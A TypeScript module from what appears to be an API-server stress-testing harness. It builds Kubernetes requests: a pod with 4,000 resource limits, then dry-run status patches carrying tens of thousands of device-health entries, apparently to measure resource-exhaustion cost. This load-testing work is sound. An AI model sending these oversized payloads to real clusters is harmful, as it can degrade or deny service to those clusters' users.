import type { Attack, Target } from '../../attack.ts';
import { bodyRequest, listed } from '../../bodies.ts';

const PODS = '/api/v1/namespaces/tenant/pods';
/** Each is a request as well: an object has at most ten thousand quantities. */
const LIMITS = 4_000;

/** Stores a pod with many limits; it exists if an earlier attack created it. */
async function prepare(target: Target): Promise<void> {
  const limits = listed(LIMITS, (i) => `"a.b/c${i}":"1"`);
  const body = `{"metadata":{"name":"devices"},"spec":{"containers":[{"name":"a","image":"a","resources":{"limits":{${limits}}}}]}}`;
  const request = bodyRequest('POST', PODS, 'application/json', body);
  const headers = [target.credentials('operator'), ...(request.headers ?? [])];
  const { status } = await target.send({ ...request, headers });
  if (status !== 201 && status !== 409) throw new Error(`the pod is refused: ${status}`);
}

/** What a node says of the health of devices. @param statuses members of the list */
const reported = (name: string, sends: string, n: number, statuses: (n: number) => string): Attack => ({
  name,
  sends,
  caller: 'operator',
  n,
  prepare,
  request: (size) =>
    bodyRequest(
      'PATCH',
      `${PODS}/devices/status?dryRun=All`,
      'application/merge-patch+json',
      `{"status":{"containerStatuses":[{"name":"a","image":"a","imageID":"a","ready":true,"restartCount":0,"allocatedResourcesStatus":[${statuses(size)}]}]}}`,
    ),
});

export const attacks: readonly Attack[] = [
  reported(
    'resources',
    'the health of one resource again and again, of a container with thousands',
    60_000,
    (n) => listed(n, () => '{"name":"a.b/c1"}'),
  ),
  reported(
    'devices',
    'the health of devices by the ten thousand',
    24_000,
    (n) => `{"name":"a.b/c1","resources":[${listed(n, (i) => `{"resourceID":"d${i}","health":"Healthy"}`)}]}`,
  ),
];
